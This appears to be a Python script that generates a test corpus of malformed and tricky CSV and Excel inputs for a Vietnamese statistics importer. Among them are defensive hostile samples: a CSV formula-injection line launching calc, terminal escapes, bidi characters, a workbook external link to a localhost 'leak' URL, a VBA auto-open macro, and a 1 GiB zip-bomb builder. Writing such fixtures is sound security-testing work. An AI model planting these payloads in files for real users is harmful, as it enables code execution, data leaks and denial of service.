"""The bad and tricky input corpus: every file of tests/data/corpus, reproducibly.

Small text files are committed next to this script (regenerate them with
`python tests/data/corpus/make_corpus.py`); workbooks and big files are made at test
time by `generate(folder)`, so nothing large or binary-by-tool is committed.
tests/data/corpus/expected.csv says what each file must give.
"""

from __future__ import annotations

import gzip
import io
import random
import re
import struct
import sys
import unicodedata
import zipfile
import zlib
from datetime import datetime
from pathlib import Path

HERE = Path(__file__).resolve().parent

# --- helpers ----------------------------------------------------------------------


def lines(*rows: str, end: str = "\n") -> bytes:
    return "".join(row + end for row in rows).encode("utf-8")


def cp1258(text: str) -> bytes:
    """Windows-1258 bytes: Vietnamese as cp1258 stores it (â/ê/ô/ơ/ư/ă/đ precomposed,
    tone marks as combining characters)."""
    out = bytearray()
    for char in unicodedata.normalize("NFC", text):
        try:
            out += char.encode("cp1258")
            continue
        except UnicodeEncodeError:
            pass
        base, *marks = unicodedata.normalize("NFD", char)
        for mark in marks:  # â ê ô ơ ư ă are precomposed in cp1258; tone marks are not
            try:
                base = unicodedata.normalize("NFC", base + mark).encode("cp1258").decode("cp1258")
                marks.remove(mark)
                break
            except UnicodeEncodeError:
                continue
        out += (base + "".join(marks)).encode("cp1258")
    return bytes(out)


def _series(name: str, values, first: int = 2017, extra: str = "") -> list[str]:
    return [f"{name},{first + i},{v}{extra}" for i, v in enumerate(values)]


EXPORTS = _series("exports", [100, 110, 121, 133, 146])
IIP = _series("industrial_production_index", [7.9, 8.2, 9.1, 6.5, 7.4])
XK = "Xuất khẩu"
XK_NFD = unicodedata.normalize("NFD", XK)
assert XK_NFD != XK

# --- small files, committed ---------------------------------------------------------

SMALL: dict[str, bytes] = {
    # empty, blank, header only
    "empty.csv": b"",
    "blank_lines.csv": b"\r\n   \r\n\t\r\n",
    "header_only.csv": lines("indicator,year,value", end="\r\n"),
    "header_then_blank_rows.csv": lines("Chỉ tiêu,Năm,Giá trị", ",,", ",,"),
    # not tables
    "binary_junk.csv": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + random.Random(1).randbytes(2000),
    "gzip_renamed.csv": gzip.compress(lines("indicator,year,value", *EXPORTS), mtime=0),
    "undecodable.csv": bytes(random.Random(2).randrange(0x80, 0x100) for _ in range(2000)),
    # delimiters
    "pipe_delimited.csv": lines("indicator|year|value", *(r.replace(",", "|") for r in EXPORTS)),
    "semicolon.csv": lines("indicator;year;value", *(r.replace(",", ";") for r in EXPORTS + IIP)),
    "tab_separated.tsv": lines("indicator\tyear\tvalue", *(r.replace(",", "\t") for r in EXPORTS + IIP)),
    "unknown_headers.csv": lines("foo,bar,baz", "a,1,2", "b,3,4"),
    # number styles
    "semicolon_decimal_comma.csv": lines(
        "Chỉ tiêu;Năm;Giá trị",
        "Chỉ số giá;2019;107,8", "Chỉ số giá;2020;105,1", "Chỉ số giá;2021;103,9",
        f"{XK};2019;1.136,5", f"{XK};2020;1.250,0", f"{XK};2021;1.302,4"),
    "vietnamese_numbers.csv": lines(
        "Chỉ tiêu,Năm,Giá trị,Đơn vị",
        "Giá trị sản xuất công nghiệp,2019,12.100,tỷ đồng",
        "Giá trị sản xuất công nghiệp,2020,12.900,tỷ đồng",
        "Giá trị sản xuất công nghiệp,2021,13.956,tỷ đồng",
        'Chỉ số giá tiêu dùng,2019,"102,8",%', 'Chỉ số giá tiêu dùng,2020,"103,2",%',
        'Chỉ số giá tiêu dùng,2021,"101,8",%',
        f'{XK},2019,"1.136,5",triệu USD', f'{XK},2020,"1.250,0",triệu USD',
        f'{XK},2021,"1.302,4",triệu USD'),
    "english_numbers.csv": lines(
        "indicator,year,value,unit",
        'retail_sales,2019,"85,873",billion VND', 'retail_sales,2020,"83,540",billion VND',
        'retail_sales,2021,"90,500",billion VND',
        'exports,2019,"1,136.5",million USD', 'exports,2020,"1,250.0",million USD',
        'exports,2021,"1,302.4",million USD'),
    "mixed_decimal_styles.csv": lines(
        "indicator,year,value", 'exports,2019,"1.136,5"', 'exports,2020,"1,236.5"',
        'exports,2021,"1,302.4"'),
    # layouts
    "title_rows.csv": lines(
        "UBND TỈNH ĐẮK LẮK,,,,", "BÁO CÁO MỘT SỐ CHỈ TIÊU CHỦ YẾU,,,,", ",,,,",
        "Chỉ tiêu,Đơn vị tính,2019,2020,2021",
        f"Kim ngạch {XK.lower()},triệu USD,1000,1050,1136",
        "Kim ngạch nhập khẩu,triệu USD,400,420,450", end="\r\n"),
    "yearbook.csv": lines(
        "STT,Chỉ tiêu,Đơn vị tính,2017,2018,2019,2020,2021",
        "A,Công nghiệp,,,,,,",
        "1,Giá trị sản xuất công nghiệp,tỷ đồng,9800,10500,11200,11900,13956",
        "2,Chỉ số sản xuất công nghiệp,%,7.9,8.2,9.1,6.5,7.4",
        "B,Thương mại,,,,,,",
        "3,Tổng mức bán lẻ,tỷ đồng,70100,76000,81200,83500,85873"),
    "wide_with_gaps.csv": lines(
        "year,exports,imports", "2015,80,30", "2016,90,", "2017,,35", "2018,110,38",
        "2019,121,40"),
    "excel_export_crlf.csv": lines(
        "indicator,year,value,,", *(r + ",," for r in EXPORTS[:3]), ",,,,",
        *(r + ",," for r in EXPORTS[3:]), ",,,,", end="\r\n"),
    # years
    "years_float_and_quoted.csv": lines(
        "indicator,year,value", "exports,2019.0,100", "exports,'2020,110", "exports,2021,121"),
    "dates_as_years.csv": lines(
        "indicator,year,value", "exports,2019-01-01,100", "exports,01/01/2020,110",
        "exports,2021-12-31,121"),
    "bad_years.csv": lines(
        "indicator,year,value", "exports,twenty twenty,100", "exports,1850,110",
        "exports,2150,121", "exports,20211,133"),
    # values
    "error_cells.csv": lines(
        "indicator,year,value", "exports,2019,100", "exports,2020,#REF!", "exports,2021,#DIV/0!",
        "exports,2022,#VALUE!"),
    "nan_inf.csv": lines(
        "indicator,year,value", "exports,2019,NaN", "exports,2020,inf", "exports,2021,1e999"),
    "text_values.csv": lines(
        "indicator,year,value", "exports,2019,12 tỷ", "exports,2020,khoảng 500",
        "exports,2021,n/a"),
    "no_values.csv": lines("indicator,year,value", "exports,2019,", "exports,2020,"),
    "missing_indicator.csv": lines("indicator,year,value", *EXPORTS, ",2022,160"),
    "bad_status.csv": lines(
        "indicator,year,value,status", "exports,2019,100,final", "exports,2020,110,provisional",
        "exports,2021,121,ước tính"),
    # content checks
    "negative_level.csv": lines(
        "indicator,year,value", "exports,2019,100", "exports,2020,-5", "exports,2021,0",
        "industrial_production_index,2019,7.9", "industrial_production_index,2020,-3.5",
        "industrial_production_index,2021,4.8"),
    "growth_floor.csv": lines(
        "indicator,year,value", "industrial_production_index,2018,7.9",
        "industrial_production_index,2019,-100", "industrial_production_index,2020,-150",
        "industrial_production_index,2021,4.8"),
    "duplicate_conflict.csv": lines("indicator,year,value", *EXPORTS, "exports,2019,125"),
    "duplicate_repeat.csv": lines("indicator,year,value", *EXPORTS, EXPORTS[2]),
    "jump.csv": lines("indicator,year,value",
                      *_series("exports", [100, 110, 400, 420, 130])),
    "few_years.csv": lines("indicator,year,value", *EXPORTS, "imports,2020,40", "imports,2021,45"),
    "mixed_units.csv": lines(
        "indicator,year,value,unit", *_series("exports", [800, 850, 900, 950], 2015, ",million USD"),
        *_series("exports", [1.0, 1.1, 1.2], 2019, ",billion USD")),
    "two_price_bases.csv": lines(
        "indicator,year,value,price_basis",
        *_series("industrial_production_value", [5000, 5500, 6000], 2012, ",constant 1994"),
        *_series("industrial_production_value", [10000, 10800, 11500], 2015, ",constant 2010")),
    # hostile text
    "csv_injection.csv": lines(
        "indicator,year,value", *_series('"=cmd|\' /C calc\'!A0"', [100, 110, 121, 133, 146]),
        *_series("@SUM(1+1)", [50, 52, 55, 57, 60]), *_series("+1+1", [20, 21, 22, 24, 25]),
        *_series("-2+3", [10, 11, 12, 12, 13])),
    "zero_width_bidi.csv": lines(
        "Chỉ tiêu,Năm,Giá trị", f"{XK},2017,100", "Xuất\u200b khẩu,2018,110",
        f"\u202e{XK},2019,121", f"{XK}\u200f,2020,133", f"\ufeff{XK},2021,146"),
    "terminal_escape.csv": lines(
        "indicator,year,value", *_series("\x1b[2J\x1b[31mexports\x07", [100, 110, 121])),
    "nfc_nfd.csv": lines(
        "Chỉ tiêu,Năm,Giá trị", f"{XK},2017,100", f"{XK},2018,110", f"{XK},2019,121",
        f"{XK_NFD},2020,133", f"{XK_NFD},2021,146"),
    # encodings
    "utf8_bom.csv": b"\xef\xbb\xbf" + lines(
        "CHỈ TIÊU,NĂM,GIÁ TRỊ", *_series(XK, [100, 110, 121]),
        *_series("Nhập khẩu", [40, 42, 45])),
    "utf16_bom.txt": b"\xff\xfe" + "".join(
        row.replace(",", "\t") + "\r\n" for row in
        ["Chỉ tiêu,Năm,Giá trị", *_series(XK, [100, 110, 121]),
         *_series("Nhập khẩu", [40, 42, 45])]).encode("utf-16-le"),
    "windows1258.csv": cp1258("".join(
        row + "\r\n" for row in ["Chỉ tiêu,Năm,Giá trị,Đơn vị tính",
                                 *_series(XK, [100, 110, 121], extra=",triệu USD"),
                                 *_series("Nhập khẩu", [40, 42, 45], extra=",triệu USD")])),
}

# --- reading planners' files the way they wrote them ------------------------


def _years_row(name: str, unit: str, values, first: int = 2017) -> list[str]:
    return [f"Chỉ tiêu,Đơn vị tính,{','.join(str(first + i) for i in range(len(values)))}",
            f"{name},{unit},{','.join(values)}"]


def _yearbook(last_header: str) -> bytes:
    """A yearbook table whose last column is headed as a preliminary/estimated year."""
    return lines(f"Chỉ tiêu,Đơn vị tính,2017,2018,2019,2020,{last_header}",
                 "Kim ngạch xuất khẩu,triệu USD,700,760,820,900,1136",
                 "Tổng mức bán lẻ,tỷ đồng,70100,76000,81200,83500,85873")


IIP_NAME = "Chỉ số sản xuất công nghiệp"
SMALL.update({
    # decimal points are not thousands separators: 0.735 is 0.735 (billion USD)
    "exports_billion_points.csv": lines(
        "indicator,year,value,unit",
        *_series("exports", ["0.735", "0.765", "0.801", "0.950", "1.136"], extra=",billion USD")),
    "exports_billion_commas.csv": lines(
        "Chỉ tiêu,Năm,Giá trị,Đơn vị",
        *_series("exports", ['"0,735"', '"0,765"', '"0,801"', '"0,950"', '"1,136"'],
                 extra=",tỷ USD")),
    "leading_zero_only.csv": lines(
        "indicator,year,value", *_series("exports", ["0.612", "0.655", "0.701"])),
    "percent_text_cells.csv": lines(
        "Chỉ tiêu;Năm;Giá trị", *(f"industrial_production_index;{2017 + i};{v}" for i, v in
                                  enumerate(["7,9%", "8,2%", "9,1%", "6,5%", "8,5%"]))),
    # a decimal comma left unquoted in a comma-separated file splits the number in two
    "decimal_comma_unquoted.csv": lines(
        "Chỉ tiêu,Năm,Giá trị", f"{IIP_NAME},2019,7,9", f"{IIP_NAME},2020,8,2",
        f"{IIP_NAME},2021,9,1"),
    # the index form of a growth indicator (previous year = 100)
    "iip_index_form.csv": lines(
        "indicator,year,value",
        *_series("industrial_production_index", ["107.9", "108.2", "109.1", "106.5", "114.8"])),
    "iip_index_named.csv": lines(
        "Chỉ tiêu,Đơn vị tính,2017,2018,2019,2020,2021",
        f'{IIP_NAME} (năm trước = 100),%,"107,9","108,2","109,1","106,5","114,8"'),
    "iip_index_unit.csv": lines(
        "Chỉ tiêu,Năm,Giá trị,Đơn vị tính",
        *_series(IIP_NAME, ['"92,5"', '"108,2"', '"109,1"', '"96,5"', '"114,8"'],
                 extra=",Năm trước = 100")),
    "iip_index_mixed.csv": lines(
        "indicator,year,value",
        *_series("industrial_production_index", ["107.9", "108.2", "9.1", "106.5", "114.8"])),
    # the index form in some years of a growth series whose median is below 70: the
    # series' own break (item 4)
    "iip_index_last_years.csv": lines(
        "indicator,year,value,unit",
        *_series("industrial_production_index", ["7.1", "6.5", "8.2", "9.0", "7.4", "8.8", "9.3",
                                                 "108.6", "109.1", "118.2"], 2012, extra=",%")),
    "iip_index_first_years.csv": lines(
        "Chỉ tiêu,Năm,Giá trị",
        *_series(IIP_NAME, ['"109,5"', '"108,1"', '"7,2"', '"8,4"', '"6,9"', '"9,1"', '"8,0"'],
                 2015)),
    "iip_true_surge.csv": lines(  # a real surge (+222.8 %) is no index: kept, flagged as a jump
        "indicator,year,value",
        *_series("industrial_production_index", ["7.1", "6.5", "8.2", "222.8", "9.0", "7.4"],
                 2016)),
    # a unit in the indicator's name (item 4)
    "iip_unit_in_name.csv": lines(
        "indicator,year,value",
        *_series(f"{IIP_NAME} (%)", ["7.1", "6.5", "8.2", "9.0", "7.4", "14.8"], 2016)),
    "iip_unit_after_dash.csv": lines(
        "Chỉ tiêu,Năm,Giá trị",
        *_series(f"{IIP_NAME} - %", ['"7,1"', '"6,5"', '"8,2"', '"9,0"'], 2018)),
    "iip_named_in_billion_dong.csv": lines(
        "Chỉ tiêu,Năm,Giá trị",
        *_series(f"{IIP_NAME} (tỷ đồng)", ['"7,1"', '"6,5"', '"8,2"', '"9,0"'], 2018)),
    "exports_unit_in_name.csv": lines(
        "Chỉ tiêu,2018,2019,2020,2021",
        "Kim ngạch xuất khẩu (triệu USD),820,900,950,1136",
        "Tổng mức bán lẻ (ĐVT: tỷ đồng),81200,83500,85873,90500"),
    "retail_named_percent.csv": lines(
        "Chỉ tiêu,Năm,Giá trị",
        *_series("Tổng mức bán lẻ (%)", ['"9,5"', '"10,1"', '"8,7"', '"11,0"'], 2018)),
    "unit_name_conflict.csv": lines(
        "Chỉ tiêu,Năm,Giá trị,Đơn vị tính",
        *_series("Kim ngạch xuất khẩu (triệu USD)", ["820", "900", "950"], 2019, extra=",tỷ đồng")),
    "exports_index_unit.csv": lines(
        "Chỉ tiêu,Năm,Giá trị,Đơn vị tính",
        *_series("Kim ngạch xuất khẩu", ['"108,5"', '"109,8"', '"112,0"'], 2019,
                 extra=",Năm trước = 100")),
    "exports_growth_unit_vi.csv": lines(
        "Chỉ tiêu,Năm,Giá trị,Đơn vị tính",
        *_series("Kim ngạch xuất khẩu", ["820", "900", "950", "1.136"], 2018, extra=",triệu USD"),
        "Kim ngạch xuất khẩu,2022,\"10,5\",% so với năm trước"),
    # a per-cent sign in an amount series (item 4)
    "retail_percent_cell.csv": lines(
        "indicator,year,value,unit",
        *_series("retail_sales", ['"30.100"', '"33.200"', '"36.900"', '"40.500"', '"8,5%"',
                                  '"44.300"'], 2016, extra=",tỷ đồng")),
    "unknown_amount_percent_cell.csv": lines(
        "Chỉ tiêu,Năm,Giá trị,Đơn vị tính",
        *_series("Doanh thu du lịch", ['"1.250"', '"1.410"', '"12%"'], 2019, extra=",tỷ đồng")),
    "share_percent_cells.csv": lines(  # a percentage of its own (no amount): read as it is
        "Chỉ tiêu,Năm,Giá trị",
        *_series("Tỷ lệ hộ nghèo", ['"5,2%"', '"4,8%"', '"4,1%"'], 2019)),
    "iip_growth_plain.csv": lines(
        "indicator,year,value",
        *_series("industrial_production_index", ["7.9", "8.2", "9.1", "-3.5", "14.8"])),
    # catalogue names and common aliases
    "names_vietnamese.csv": lines(
        "Chỉ tiêu,Năm,Giá trị",
        *_series("Chỉ số sản xuất công nghiệp (IIP)", ['"7,9"', '"8,2"', '"9,1"'], 2019),
        *_series("Tổng mức bán lẻ hàng hóa và doanh thu dịch vụ tiêu dùng",
                 ["81.200", "83.500", "85.873"], 2019),
        *_series("Kim ngạch xuất khẩu", ["1.000", "1.050", "1.136"], 2019),
        *_series("Kim ngạch nhập khẩu", ["400", "420", "450"], 2019)),
    "names_no_diacritics.csv": lines(
        "chi tieu,nam,gia tri",
        *_series("chi so san xuat cong nghiep (IIP)", ["7.9", "8.2", "9.1"], 2019),
        *_series("TONG MUC BAN LE HANG HOA VA DOANH THU DICH VU TIEU DUNG",
                 ["81200", "83500", "85873"], 2019),
        *_series("kim  ngach xuat   khau", ["1000", "1050", "1136"], 2019)),
    "names_english.csv": lines(
        "indicator,year,value",
        *_series("Industrial Production Index (IIP)", ["7.9", "8.2", "9.1"], 2019),
        *_series("Retail sales", ["81200", "83500", "85873"], 2019),
        *_series("EXPORTS", ["1000", "1050", "1136"], 2019),
        *_series("Imports", ["400", "420", "450"], 2019)),
    "names_alias_conflict.csv": lines(
        "Chỉ tiêu,Năm,Giá trị", *_series("Xuất khẩu", ["100", "110", "121"], 2019),
        "Kim ngạch xuất khẩu,2021,125"),
    # years and values the editor also refuses
    "year_fraction.csv": lines("indicator,year,value", "exports,2020,110", "exports,2021.5,121"),
    "huge_values.csv": lines("indicator,year,value", "exports,2019,1e300", "exports,2020,1e20",
                             "exports,2021,121"),
    # yearbook headers: preliminary / estimated last year
    "yearbook_so_bo.csv": _yearbook("Sơ bộ 2021"),
    "yearbook_uoc_tinh.csv": _yearbook("Ước tính 2021"),
    "yearbook_uoc_th.csv": _yearbook("Ước TH 2021"),
    "yearbook_star.csv": _yearbook("2021*"),
    "yearbook_prel.csv": _yearbook("Prel. 2021"),
    # two-row headers
    "two_row_header.csv": lines(
        "Chỉ tiêu,Đơn vị tính,Năm,,,,", ",,2017,2018,2019,2020,Sơ bộ 2021",
        "Kim ngạch xuất khẩu,triệu USD,700,760,820,900,1136",
        "Tổng mức bán lẻ,tỷ đồng,70100,76000,81200,83500,85873"),
    "two_row_header_unreadable.csv": lines(
        "Chỉ tiêu,Đơn vị tính,Năm", "Kim ngạch xuất khẩu,triệu USD,2019 - 2021",
        "Tổng mức bán lẻ,tỷ đồng,2019 - 2021"),
    # spaces in headers (item 5): no-break, doubled, a line break in a cell
    "header_nbsp.csv": lines("Chỉ\u00a0tiêu,Năm,Giá\u00a0trị", *_series("Kim\u00a0ngạch xuất khẩu", [
        "1.000", "1.050", "1.136"], 2019)),
    "header_spaces_line_break.csv": lines(
        '"Chỉ  tiêu","Đơn vị\ntính",2019,2020,2021',
        "Kim ngạch xuất khẩu,triệu USD,1000,1050,1136", "Tổng mức bán lẻ,tỷ đồng,81200,83500,85873"),
    # size limits: a small file with too many columns
    "many_columns.csv": lines(
        "year," + ",".join(f"s{i}" for i in range(1500)),
        "2020," + ",".join("1" for _ in range(1500)), "2021," + ",".join("2" for _ in range(1500))),
})

# --- the statistics office's "by province" tables, as published ---------------------------
# Figures copied from ../shared/data/gso_provinces (GSO, downloaded 21 Sep 2018).
GSO_RETAIL_TITLE = ("Retail sales of goods and services at current prices by province (*) "
                    "by Cities, provincies and Year")
GSO_RETAIL = [  # 2002, 2003, 2004, 2005 ... 2013, 2014, 2015, Prel. 2016
    (" WHOLE COUNTRY", "280884.0;333809.3;398524.5;480293.5", "2615203.6;2916233.9;3223202.6;3568149.5"),
    ("Red River Delta", "..;..;..;..", "..;..;..;.."),
    ("Ha Tay", "3626.0;6539.7;8116.6;10321.9", "..;..;..;.."),
    ("Thai  Nguyen", "2255.0;2132.6;2673.2;3564.1", "15725.8;17544.3;19869.5;22000.2"),
    ("Thua Thien-Hue", "2448.0;2825.3;3408.6;4174.1", "24409.2;26731.1;28909.6;31552.8"),
    ("Central Highlands", "9254.0;10543.6;12926.8;17398.2", "120061.1;137032.2;148719.2;165677.2"),
    ("Dak Lak", "3850.0;3872.0;4483.9;5321.9", "43608.7;48567.9;52154.5;58082.6"),
    ("Dak Nong", "..;565.0;681.4;1348.0", "8968.1;9877.1;10932.1;11873.1"),
    ("Ho Chi Minh city", "71493.0;81274.6;95993.4;107977.4", "614137.6;664268.1;711206.7;772737.7"),
]


def _gso_retail(delimiter: str = ";") -> bytes:
    """A retail table as the office publishes it: BOM, a title line, a blank line, a header of
    years ending "Prel. 2016", `..` for no figure, CRLF; 2002–2005 and 2013–2016 only."""
    years = ["2002", "2003", "2004", "2005", "2013", "2014", "2015", "Prel. 2016"]
    rows = [f'"{GSO_RETAIL_TITLE}"', "", ";".join(f'"{c}"' for c in ["Cities, provincies"] + years)]
    rows += [f'"{name}";{early};{late}' for name, early, late in GSO_RETAIL]
    if delimiter != ";":
        rows = [r.replace(";", delimiter) for r in rows]
    return b"\xef\xbb\xbf" + lines(*rows, end="\r\n")


SMALL.update({
    "gso_retail_semicolon.csv": _gso_retail(),
    "gso_iip_comma.csv": b"\xef\xbb\xbf" + lines(
        '"Index of Industrial production by province by Cities, provincies and Year"', "",
        '"Cities, provincies","2012","2013","2014","2015","2016"',
        '" WHOLE COUNTRY",105.8,105.9,107.6,109.8,107.4',
        '"Central Highlands",..,..,..,..,..',
        '"Thai  Nguyen",106.7,102.1,322.8,176.0,123.7',
        '"Dak Lak",110.5,100.3,103.8,98.7,107.1',
        '"Dak Nong",109.4,105.1,107.2,107.0,103.6', end="\r\n"),
    "gso_retail_vietnamese.csv": lines(
        "Tổng mức bán lẻ hàng hóa và doanh thu dịch vụ tiêu dùng theo giá hiện hành phân theo "
        "địa phương", "Tỉnh, thành phố;2013;2014;2015;Sơ bộ 2016",
        "CẢ NƯỚC;2.615.203,6;2.916.233,9;3.223.202,6;3.568.149,5",
        "Tây Nguyên;120.061,1;137.032,2;148.719,2;165.677,2",
        "Đắk Lắk;43.608,7;48.567,9;52.154,5;58.082,6",
        "Phú Yên;17.608,2;20.076,3;22.704,2;25.215,6",
        "TP. Hồ Chí Minh;614.137,6;664.268,1;711.206,7;772.737,7"),
    "gso_made_up_area.csv": lines(
        "Chỉ số sản xuất công nghiệp phân theo địa phương",
        "Địa phương,2013,2014,2015,2016", "Đắk Lắk,100.3,103.8,98.7,107.1",
        "Thành phố Buôn Ma Thuột,104.1,106.0,103.2,108.0",
        "Khu kinh tế Xanh,101.0,102.0,103.0,104.0"),
    "province_long.csv": lines(
        "province,indicator,year,value", "Dak Lak,retail_sales,2014,48567.9",
        "Dak Lak,retail_sales,2015,52154.5", "Dak Lak,retail_sales,2016,58082.6",
        "daklak,exports,2016,600", "Phu Yen,retail_sales,2014,20076.3",
        "Phu Yen,retail_sales,2015,22704.2", "Phu Yen,retail_sales,2016,25215.6",
        "Dak Lak,retail_sales,2003,3872.0"),
})

# --- workbooks, made at test time ---------------------------------------------------

NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
LONG_ROWS = [["indicator", "year", "value"], ["exports", 2019, 100], ["exports", 2020, 110],
             ["exports", 2021, 121]]


def workbook(rows, merged=(), formulas=None) -> bytes:
    """An .xlsx made by openpyxl. `formulas` maps a cell ("C3") to (formula, cached value,
    type: "n", "str" or "e"): openpyxl stores no cached values, so they are written in."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    for ref in merged:
        sheet.merge_cells(ref)
    for ref, (formula, _, _) in (formulas or {}).items():
        sheet[ref] = "=" + formula
    buffer = io.BytesIO()
    book.save(buffer)
    data = buffer.getvalue()
    if formulas:
        def cache(xml: str) -> str:
            for ref, (_, value, kind) in formulas.items():
                kind_attr = "" if kind == "n" else f' t="{kind}"'
                xml, n = re.subn(rf'<c r="{ref}"([^>]*)><f>(.*?)</f><v ?/>',
                                 rf'<c r="{ref}"\1{kind_attr}><f>\2</f><v>{value}</v>', xml)
                assert n == 1, ref
            return xml
        data = rezip(data, {"xl/worksheets/sheet1.xml": cache})
    return data


def book(sheets, active: int = 0, hidden=(), formats=None) -> bytes:
    """An .xlsx with several sheets {title: rows}; `hidden` titles, `formats` maps
    (title, "C2") to a number format."""
    from openpyxl import Workbook

    made = Workbook()
    made.remove(made.active)
    for title, rows in sheets.items():
        sheet = made.create_sheet(title)
        for row in rows:
            sheet.append(row)
        if title in hidden:
            sheet.sheet_state = "hidden"
    for (title, ref), number_format in (formats or {}).items():
        made[title][ref].number_format = number_format
    made.active = active
    buffer = io.BytesIO()
    made.save(buffer)
    return buffer.getvalue()


def rezip(data: bytes, change: dict, add: dict | None = None) -> bytes:
    """The zip `data` with entries changed (name -> function of the text) and added."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            content = source.read(name)
            if name in change:
                content = change[name](content.decode("utf-8")).encode("utf-8")
            target.writestr(name, content)
        for name, content in (add or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def _insert(before: str, text: str):
    return lambda xml: xml.replace(before, text + before, 1)


def external_links_workbook() -> bytes:
    """Values pulled by formulas from another workbook on a remote share."""
    rows = [["indicator", "year", "value"], ["exports", 2019, None], ["exports", 2020, None],
            ["exports", 2021, None]]
    formulas = {f"C{r}": (f"'[1]Sheet1'!B{r}", v, "n") for r, v in ((2, 100), (3, 110), (4, 121))}
    link = ('<externalLink ' + NS + ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/>'
            '</sheetNames><sheetDataSet><sheetData sheetId="0"><row r="2"><cell r="B2"><v>100</v>'
            '</cell></row></sheetData></sheetDataSet></externalBook></externalLink>')
    link_rels = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                 '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                 'relationships/externalLinkPath" Target="http://127.0.0.1:9/leak/budget.xlsx" '
                 'TargetMode="External"/></Relationships>')
    return rezip(workbook(rows, formulas=formulas), {
        "xl/workbook.xml": _insert("<definedNames", '<externalReferences><externalReference '
                                   'r:id="rId99" /></externalReferences>'),
        "xl/_rels/workbook.xml.rels": _insert("</Relationships>", (
            '<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'externalLink" Target="externalLinks/externalLink1.xml" Id="rId99" />')),
        "[Content_Types].xml": _insert("</Types>", (
            '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml" />')),
    }, {"xl/externalLinks/externalLink1.xml": link,
        "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels})


def macro_workbook() -> bytes:
    """An .xlsm whose VBA part would start a calculator on opening, in Excel."""
    vba = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + b'Attribute VB_Name = "ThisWorkbook"\r\n'
           b'Private Sub Workbook_Open()\r\n    Shell "calc.exe"\r\nEnd Sub\r\n')
    rows = LONG_ROWS + [["imports", 2019, 40], ["imports", 2020, 42], ["imports", 2021, 45]]
    return rezip(workbook(rows), {
        "[Content_Types].xml": lambda xml: xml.replace(
            "spreadsheetml.sheet.main+xml", "PLACEHOLDER").replace(
            "application/vnd.openxmlformats-officedocument.PLACEHOLDER",
            "application/vnd.ms-excel.sheet.macroEnabled.main+xml").replace(
            "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.'
                        'vbaProject" /></Types>'),
        "xl/_rels/workbook.xml.rels": _insert("</Relationships>", (
            '<Relationship Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
            'Target="vbaProject.bin" Id="rId98" />')),
    }, {"xl/vbaProject.bin": vba})


def _sheet_with_doctype(doctype: str, name: str) -> bytes:
    cells = lambda *v: "".join(
        f'<c t="inlineStr"><is><t>{x}</t></is></c>' if isinstance(x, str) else f"<c><v>{x}</v></c>"
        for x in v)
    sheet = (f'<?xml version="1.0"?>{doctype}<worksheet {NS}><sheetData>'
             f'<row r="1">{cells("indicator", "year", "value")}</row>'
             + "".join(f'<row r="{r}">{cells(name, 2017 + r, 100 + r)}</row>' for r in (2, 3, 4))
             + "</sheetData></worksheet>")
    return rezip(workbook(LONG_ROWS), {"xl/worksheets/sheet1.xml": lambda _: sheet})


def zip_bomb(uncompressed: int = 1 << 30) -> bytes:
    """A well-formed .xlsx whose sheet inflates to `uncompressed` bytes (1 GiB) from
    about 1 MB: one deflate block of identical rows, repeated."""
    row = b'<row><c t="inlineStr"><is><t>exports</t></is></c><c><v>2020</v></c><c><v>1</v></c></row>'
    chunk = row * ((1 << 20) // len(row))
    head = (f'<?xml version="1.0"?><worksheet {NS}><sheetData><row><c t="inlineStr"><is><t>'
            'indicator</t></is></c><c t="inlineStr"><is><t>year</t></is></c><c t="inlineStr">'
            '<is><t>value</t></is></c></row>').encode()
    tail = b"</sheetData></worksheet>"
    repeats = (uncompressed - len(head) - len(tail)) // len(chunk)
    flushed = lambda data: (lambda c: c.compress(data) + c.flush(zlib.Z_FULL_FLUSH))(
        zlib.compressobj(9, zlib.DEFLATED, -15))
    block = flushed(chunk)
    crc, size = zlib.crc32(head), len(head)
    for _ in range(repeats):
        crc = zlib.crc32(chunk, crc)
    crc, size = zlib.crc32(tail, crc), size + len(chunk) * repeats + len(tail)
    last = zlib.compressobj(9, zlib.DEFLATED, -15)
    stream = flushed(head) + block * repeats + last.compress(tail) + last.flush()
    entries = [(n, c) for n, c in _entries(workbook(LONG_ROWS)) if n != "xl/worksheets/sheet1.xml"]
    return _write_zip([(n, _deflate(c), zlib.crc32(c), len(c)) for n, c in entries]
                      + [("xl/worksheets/sheet1.xml", stream, crc, size)])


def _entries(data: bytes):
    source = zipfile.ZipFile(io.BytesIO(data))
    return [(name, source.read(name)) for name in source.namelist()]


def _deflate(data: bytes) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def _write_zip(entries) -> bytes:
    """A zip from already-deflated entries (name, deflated, crc32, size)."""
    out, central = io.BytesIO(), []
    for name, deflated, crc, size in entries:
        raw_name, offset = name.encode(), out.tell()
        fields = (20, 0, 8, 0, 0x21, crc, len(deflated), size, len(raw_name), 0)
        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", *fields) + raw_name + deflated)
        central.append(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, *fields, 0, 0, 0, 0, offset)
                       + raw_name)
    start = out.tell()
    out.write(b"".join(central))
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(central), len(central),
                          out.tell() - start, start, 0))
    return out.getvalue()


MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
